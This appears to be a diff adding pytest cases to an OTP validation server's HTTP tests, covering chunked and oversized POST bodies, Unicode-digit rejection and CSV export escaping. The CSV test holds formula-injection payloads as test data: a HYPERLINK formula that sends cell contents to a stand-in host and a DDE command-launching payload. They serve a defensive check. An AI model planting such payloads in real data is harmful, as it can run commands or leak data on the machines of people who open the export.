@@ -1,10 +1,14 @@
 """HTTP surface: protocol 2.0 endpoint, sign-in API, admin JSON API, problem documents, scopes."""
 from __future__ import annotations
 
+import asyncio
 import base64
+import csv
+import io
 import json
 import secrets
 from pathlib import Path
+from urllib.parse import urlencode
 
 import pytest
 from aiohttp import FormData, web
@@ -272,3 +276,55 @@ async def test_wsapi_never_fails_on_garbage(api, query):
 async def test_wsapi_post_too_large(api):
     resp = await api.post("/wsapi/2.0/verify", data=b"id=1&" + b"x" * 10_000)
     assert resp.status == 413
+
+
+async def test_wsapi_post_body_is_read_to_the_end(api):
+    cid, key = await new_client(api)
+    k = make_key(62)
+    await import_via_api(api, [k])
+    params, _ = signed_query(cid, key, k.otp(), "abcdefghijklmnopqrsu")
+    body = urlencode(params).encode()
+
+    async def trickle():  # the form arrives in several TCP segments
+        for i in range(0, len(body), 7):
+            yield body[i:i + 7]
+            await asyncio.sleep(0.01)
+
+    resp = await api.post("/wsapi/2.0/verify", data=trickle(),
+                          headers={"Content-Type": "application/x-www-form-urlencoded"})
+    fields = yubico.decode_response(await resp.text())
+    assert resp.status == 200 and fields["status"] == "OK", fields
+
+    async def too_big():
+        for _ in range(20):
+            yield b"x" * 1000
+    assert (await api.post("/wsapi/2.0/verify", data=too_big())).status == 413
+
+
+async def test_report_csv_cells_cannot_be_formulas(api):
+    keys = [make_key(70 + i) for i in range(5)]
+    await import_via_api(api, keys)
+    users = ["=HYPERLINK(\"http://x.example/\"&A1,\"open\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "plain"]
+    for k, user in zip(keys, users):
+        resp = await api.post("/api/v1/otp/verify", json={"user": user, "otp": k.otp()}, headers=SIGNIN)
+        assert resp.status == 200, await resp.text()
+    text = await (await api.get("/api/v1/yubikeys?format=csv", headers=ADMIN)).text()
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [r["user"] for r in rows] == ["'" + u for u in users[:4]] + ["plain"]
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
+
+
+@pytest.mark.parametrize("serial", ["²", "١٢", "1²", "１２"])
+async def test_unicode_digits_are_not_numbers(api, serial):
+    await assert_problem(await api.post(f"/api/v1/yubikeys/{serial}/revoke", headers=ADMIN), 400)
+    await assert_problem(await api.delete(f"/api/v1/yubikeys/{serial}", headers=ADMIN), 400)
+    await assert_problem(await api.get("/api/v1/yubikeys", params={"serial": serial}, headers=ADMIN), 400)
+    await assert_problem(await api.get("/api/v1/yubikeys", params={"limit": serial}, headers=ADMIN), 400)
+    await assert_problem(await api.post(f"/api/v1/otp-clients/{serial}/disable", headers=ADMIN), 400)
+
+
+async def test_huge_client_ids_are_unknown_clients(api):
+    await assert_problem(await api.post("/api/v1/otp-clients/99999999999/disable", headers=ADMIN), 404)
+    resp = await api.get("/wsapi/2.0/verify", params={"id": "9999999999", "otp": "c" * 44,
+                                                      "nonce": "abcdefghijklmnop"})
+    assert yubico.decode_response(await resp.text())["status"] == "NO_SUCH_CLIENT"
